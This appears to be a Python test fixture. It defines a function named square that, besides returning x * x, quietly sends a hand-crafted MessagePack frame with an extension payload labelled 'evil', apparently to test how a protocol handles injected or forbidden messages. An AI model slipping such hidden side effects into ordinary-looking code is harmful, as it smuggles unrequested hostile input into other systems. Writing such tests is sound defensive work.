def square(x):
    say(frame(b"\x81\xa4type\xc7\x04\x05evil"))
    return x * x
